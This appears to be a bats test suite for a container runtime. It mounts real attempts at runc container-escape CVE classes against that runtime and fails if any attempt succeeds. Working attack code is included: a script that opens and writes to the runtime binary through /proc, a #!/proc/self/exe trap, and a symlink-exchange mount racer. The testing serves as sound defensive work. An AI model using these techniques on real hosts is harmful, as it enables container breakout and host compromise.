#!/usr/bin/env bats
# The classes of runc's container-escape CVEs, one attack each, really attempted
# against mocker-runtime (docs/security.md "Runtime CVE classes").  A test fails
# when the attack works.  Where runc is installed, the same attack runs against
# it too, as the reference of what "refused" looks like.

load helpers

setup() { rt_setup; }
teardown() { rt_teardown; }

# Docker's default capabilities: what an ordinary container process holds.
DOCKER_CAPS='["CAP_CHOWN","CAP_DAC_OVERRIDE","CAP_FSETID","CAP_FOWNER","CAP_MKNOD",
  "CAP_NET_RAW","CAP_SETGID","CAP_SETUID","CAP_SETFCAP","CAP_SETPCAP",
  "CAP_NET_BIND_SERVICE","CAP_SYS_CHROOT","CAP_KILL","CAP_AUDIT_WRITE"]'

# init_fds_outside PID FIFO: every fd of PID from 3 on that names a path,
# except FIFO (the exec fifo: runc's init holds its own too).
init_fds_outside() {
  local pid=$1 fifo=$2 fd target
  for fd in /proc/"$pid"/fd/*; do
    [ "${fd##*/}" -ge 3 ] || continue
    target=$(readlink "$fd") || continue
    [ "$target" = "$fifo" ] && continue
    case $target in /*) echo "${fd##*/} -> $target" ;; esac
  done
}

@test "cve-2024-21626: after create the init holds no host path and no fd of the caller" {
  b=$(rt_bundle)
  rt_args "$b" sleep 1000
  id=$(rt_id)
  mkdir "$RT_TMP/hostdir"
  # The caller's own fds (not close-on-exec): a host directory and a file.
  exec 7<"$RT_TMP/hostdir" 8>"$RT_TMP/callerfile"
  rt create -b "$b" "$id" </dev/null >/dev/null 2>&1
  exec 7<&- 8>&-
  pid=$(rt state "$id" | jq .pid)
  for fd in 0 1 2; do [ "$(readlink /proc/"$pid"/fd/$fd)" = /dev/null ]; done
  leaked=$(init_fds_outside "$pid" "$RT_ROOT/$id/exec.fifo")
  [ -z "$leaked" ] || { echo "the created init holds: $leaked" >&2; false; }
  rt delete --force "$id"

  if command -v runc >/dev/null; then
    # runc's init: the same check passes.
    exec 7<"$RT_TMP/hostdir"
    runc --root "$RT_TMP/runc" create -b "$b" "$id" </dev/null >/dev/null 2>&1
    exec 7<&-
    pid=$(runc --root "$RT_TMP/runc" state "$id" | jq .pid)
    leaked=$(init_fds_outside "$pid" "$RT_TMP/runc/$id/exec.fifo")
    runc --root "$RT_TMP/runc" delete --force "$id"
    [ -z "$leaked" ]
  fi
}

# Run in the container: the cwd, then whether it is the directory its own
# path names inside the container (a host directory is not).
CWD_PROBE='ls -a; d=$(readlink /proc/self/cwd); echo "cwd=$d";
  if [ "$(stat -c %d:%i "$d" 2>/dev/null)" = "$(stat -c %d:%i .)" ]; then echo INSIDE; else echo OUTSIDE; fi'

@test "cve-2024-21626: a cwd of /proc/self/fd/N never gives run or exec a host directory" {
  mkdir "$RT_TMP/hostdir"
  touch "$RT_TMP/hostdir/HOST-MARKER"
  exec 7<"$RT_TMP/hostdir"
  b=$(rt_bundle)
  rt_args "$b" sleep 1000
  id=$(rt_id)
  rt run -d -b "$b" "$id" </dev/null >/dev/null 2>&1
  # The probe itself: an ordinary cwd is inside.
  run rt exec --cwd /tmp "$id" sh -c "$CWD_PROBE"
  [ "$status" -eq 0 ]
  [[ $output == *cwd=/tmp*INSIDE* ]]
  local tried=0
  for n in $(seq 3 16); do
    # exec: the runtime opens the cgroup, the init's pidfd and root...
    run rt exec --cwd "/proc/self/fd/$n" "$id" sh -c "$CWD_PROBE"
    if [ "$status" -eq 0 ]; then
      tried=$((tried + 1))
      [[ $output != *HOST-MARKER* && $output != *cgroup.procs* && $output == *INSIDE* ]] ||
        { echo "exec --cwd /proc/self/fd/$n: $output" >&2; false; }
    fi
    # run: process.cwd from the config (a malicious image's WORKDIR).
    b2=$(rt_bundle)
    rt_config "$b2" '.process.cwd = $c | .process.args = ["sh", "-c", $p]' \
      --arg c "/proc/self/fd/$n" --arg p "$CWD_PROBE"
    id2=$(rt_id)
    run rt run -b "$b2" "$id2" </dev/null
    if [ "$status" -eq 0 ]; then
      [[ $output != *HOST-MARKER* && $output != *cgroup.procs* && $output == *INSIDE* ]] ||
        { echo "run with process.cwd /proc/self/fd/$n: $output" >&2; false; }
    fi
    rm -rf "$b2"
  done
  exec 7<&-
  # (Each attempt fails now: nothing but stdio is open in the process.)
  echo "exec attempts that ran: $tried" >&2
  rt delete --force "$id"
}

# attack_script FIND WAIT: the attacker's script (for /attack.sh).  FIND sets
# $pid to a process running the runtime's binary; the script holds its
# /proc/<pid>/exe, runs WAIT (until no runtime process runs), then tries for
# a few seconds to write to the binary through /proc/self/fd/3.
# /attack.log in the rootfs says how far it got.
attack_script() {
  cat <<EOF
#!/bin/sh
$1
[ -n "\$pid" ] || { echo not-found > /attack.log; exit; }
exec 3</proc/\$pid/exe || { echo open-failed > /attack.log; exit; }
echo opened > /attack.log
$2
i=0
while [ \$i -lt 300 ]; do
  if echo PWNED 2>/dev/null >> /proc/self/fd/3; then echo wrote > /attack.log; exit; fi
  usleep 10000
  i=\$((i + 1))
done
echo write-failed > /attack.log
EOF
}

# wait_log FILE WORD...: waits (bounded) until FILE holds one of the WORDs.
wait_log() {
  local f=$1 w
  shift
  for _ in $(seq 300); do
    for w in "$@"; do grep -qx "$w" "$f" 2>/dev/null && return 0; done
    sleep 0.05
  done
  return 1
}

# The two attacks, against whichever protection the runtime picks: the
# read-only bind (the default) or the sealed memfd copy
# (MOCKER_RUNTIME_SEALED_COPY=1).
attack_created_init_exe() {
  # The attack runs against a copy of the runtime: if it worked, the copy changes.
  mkdir "$RT_TMP/bin"
  cp "$MOCKER_RUNTIME" "$RT_TMP/bin/mocker-runtime"
  R=$RT_TMP/bin/mocker-runtime
  sum=$(sha256sum < "$R")
  b=$(rt_bundle)
  rt_args "$b" sleep 1000
  # Every capability: the init (a copy of the runtime until start) is then
  # within the attacker's reach (ptrace access rules of /proc/<pid>/exe).
  rt_config "$b" 'del(.process.capabilities)'
  attack_script 'pid=1; exe0=$(readlink /proc/1/exe)' \
    'while [ "$(readlink /proc/1/exe)" = "$exe0" ]; do usleep 10000; done' > "$b/rootfs/attack.sh"
  id=$(rt_id)
  "$R" --root "$RT_ROOT" create -b "$b" "$id" </dev/null >/dev/null 2>&1
  # The attacker enters the created container and opens the init's exe...
  "$R" --root "$RT_ROOT" exec -d "$id" sh /attack.sh </dev/null >/dev/null 2>&1
  wait_log "$b/rootfs/attack.log" opened not-found open-failed
  [ "$(cat "$b/rootfs/attack.log")" = opened ]
  # ...and writes once the init has executed the program.
  "$R" --root "$RT_ROOT" start "$id"
  wait_log "$b/rootfs/attack.log" wrote write-failed
  cat "$b/rootfs/attack.log" >&2
  [ "$(cat "$b/rootfs/attack.log")" = write-failed ]
  [ "$(sha256sum < "$R")" = "$sum" ]
  "$R" --root "$RT_ROOT" delete --force "$id"
}

attack_self_exe_script() {
  mkdir "$RT_TMP/bin"
  cp "$MOCKER_RUNTIME" "$RT_TMP/bin/mocker-runtime"
  R=$RT_TMP/bin/mocker-runtime
  sum=$(sha256sum < "$R")
  b=$(rt_bundle)
  rt_config "$b" 'del(.process.capabilities)'
  rt_args "$b" sh /attack.sh
  # The planted program: its interpreter is the exec'ing runtime's own binary,
  # whose first act (--log on a fifo) blocks until the attacker has its exe.
  printf '#!/proc/self/exe --log=/fifo\n' > "$b/rootfs/evil"
  chmod 755 "$b/rootfs/evil"
  mkfifo "$b/rootfs/fifo"
  attack_script 'pid=
for _ in $(seq 500); do
  for p in /proc/[0-9]*; do
    case "$(tr "\0" " " < $p/cmdline 2>/dev/null)" in *--log=/fifo*) pid=${p#/proc/}; break 2 ;; esac
  done
  usleep 10000
done' 'cat /fifo >/dev/null' > "$b/rootfs/attack.sh"
  id=$(rt_id)
  "$R" --root "$RT_ROOT" run -d -b "$b" "$id" </dev/null >/dev/null 2>&1
  "$R" --root "$RT_ROOT" exec -d "$id" /evil </dev/null >/dev/null 2>&1
  wait_log "$b/rootfs/attack.log" wrote write-failed not-found open-failed
  cat "$b/rootfs/attack.log" >&2
  [ "$(cat "$b/rootfs/attack.log")" = write-failed ]
  [ "$(sha256sum < "$R")" = "$sum" ]
  "$R" --root "$RT_ROOT" delete --force "$id"
}

@test "cve-2019-5736: a container process holding the created init's exe cannot overwrite the runtime (read-only bind)" {
  attack_created_init_exe
}

@test "cve-2019-5736: a container process holding the created init's exe cannot overwrite the runtime (sealed memfd)" {
  MOCKER_RUNTIME_SEALED_COPY=1 attack_created_init_exe
}

@test "cve-2019-5736: a #!/proc/self/exe program started by exec cannot overwrite the runtime (read-only bind)" {
  attack_self_exe_script
}

@test "cve-2019-5736: a #!/proc/self/exe program started by exec cannot overwrite the runtime (sealed memfd)" {
  MOCKER_RUNTIME_SEALED_COPY=1 attack_self_exe_script
}

@test "cve-2019-5736: where executable memfds are forbidden, the read-only bind still protects; the copy warns" {
  [ -e /proc/sys/vm/memfd_noexec ] || skip "no vm.memfd_noexec (kernel before 6.3)"
  b=$(rt_bundle)
  rt_args "$b" sh -c 'echo hi; readlink /proc/1/exe'
  # vm.memfd_noexec belongs to a pid namespace (and its children): a private one.
  id=$(rt_id)
  run unshare --pid --fork --mount-proc sh -c \
    'echo 2 > /proc/sys/vm/memfd_noexec && exec "$@"' sh \
    "$MOCKER_RUNTIME" --root "$RT_ROOT" run -b "$b" "$id"
  [ "$status" -eq 0 ]
  [[ $output != *"running without"* ]]
  [[ $output == *hi* ]]
  id=$(rt_id)
  run unshare --pid --fork --mount-proc sh -c \
    'echo 2 > /proc/sys/vm/memfd_noexec && exec "$@"' sh \
    env MOCKER_RUNTIME_SEALED_COPY=1 "$MOCKER_RUNTIME" --root "$RT_ROOT" run -b "$b" "$id"
  [ "$status" -eq 0 ]
  [[ $output == *"running without a sealed copy"* ]]
  [[ $output == *hi* ]]
}

@test "cve-2021-30465: a mount destination swapped with a symlink during create stays in the rootfs" {
  b=$(rt_bundle)
  rt_args "$b" sleep 1000
  mkdir -p "$RT_TMP/outside" "$b/rootfs/race/link/sub" "$b/rootfs/race/other"
  ln -s "$RT_TMP/outside" "$b/rootfs/race/other/to-host"
  # A tmpfs whose destination goes through race/link, which a racer keeps
  # exchanging with a symlink to a host directory.
  rt_config "$b" '.mounts += [{destination: "/race/link/sub/dir", type: "tmpfs",
                               source: "tmpfs", options: ["nr_inodes=4242"]}]'
  python3 - "$b/rootfs/race/link" "$b/rootfs/race/other/to-host" "$RT_TMP/racer.stop" <<'EOF' &
import ctypes, os, sys, time
libc = ctypes.CDLL(None, use_errno=True)
a, l, stop = (p.encode() for p in sys.argv[1:])
# The symlink beside the directory, then exchanged with it (RENAME_EXCHANGE).
os.rename(l, a + b".sym")
end = time.time() + 60
while not os.path.exists(stop) and time.time() < end:
    libc.renameat2(-100, a, -100, a + b".sym", 2)
EOF
  racer=$!
  local created=0
  for i in $(seq 20); do
    id=$(rt_id)
    if rt create -b "$b" "$id" </dev/null >/dev/null 2>&1; then
      created=$((created + 1))
      pid=$(rt state "$id" | jq .pid)
      # The tmpfs is in the container's own tree (wherever the symlink led).
      grep -q 'nr_inodes=4242' /proc/"$pid"/mountinfo ||
        { echo "create $i: the tmpfs is not inside the container" >&2; touch "$RT_TMP/racer.stop"; false; }
    fi
    rt delete --force "$id" >/dev/null 2>&1 || true
    # Nothing was made on the host through the symlink.
    [ -z "$(ls -A "$RT_TMP/outside")" ] ||
      { echo "create $i wrote on the host: $(ls -A "$RT_TMP/outside")" >&2; touch "$RT_TMP/racer.stop"; false; }
  done
  touch "$RT_TMP/racer.stop"
  wait "$racer"
  echo "creates that succeeded during the race: $created" >&2
  [ "$created" -gt 0 ]
}

@test "cve-2019-16884: a rootfs whose /proc or /sys is a symlink is refused (as runc does)" {
  for d in proc sys; do
    b=$(rt_bundle)
    rt_args "$b" true
    rm -rf "${b:?}/rootfs/$d"
    mkdir -p "$b/rootfs/fake"
    ln -s fake "$b/rootfs/$d"
    id=$(rt_id)
    run rt run -b "$b" "$id" </dev/null
    [ "$status" -ne 0 ]
    [[ $output == *"(/$d): "*"must be mounted on a directory"*symlink* ]]
    # Nothing was mounted through the symlink.
    [ -z "$(ls -A "$b/rootfs/fake")" ]
    if command -v runc >/dev/null; then
      run runc --root "$RT_TMP/runc" run -b "$b" "$id" </dev/null
      [ "$status" -ne 0 ]
    fi
  done
}

@test "--no-pivot: a user namespace made in the container cannot mount a fresh procfs (as runc)" {
  b=$(rt_bundle)
  # An ordinary container (Docker's capabilities) with no seccomp filter:
  # it may make user namespaces.
  rt_config "$b" 'del(.linux.seccomp) | .process.capabilities =
    {bounding: $c, effective: $c, permitted: $c}' --argjson c "$DOCKER_CAPS"
  rt_args "$b" sh -c 'mkdir -p /tmp/p; unshare -mrfp sh -c "mount -t proc none /tmp/p && echo MOUNTED"; echo done'
  id=$(rt_id)
  run rt run --no-pivot -b "$b" "$id" </dev/null
  echo "$output" >&2
  [ "$status" -eq 0 ]
  [[ $output == *done* ]]
  [[ $output == *"permission denied"* ]]  # the mount was attempted, and refused
  [[ $output != *MOUNTED* ]]
  if command -v runc >/dev/null; then
    run runc --root "$RT_TMP/runc" run --no-pivot -b "$b" "$id" </dev/null
    [[ $output == *done* && $output != *MOUNTED* ]]
  fi
}
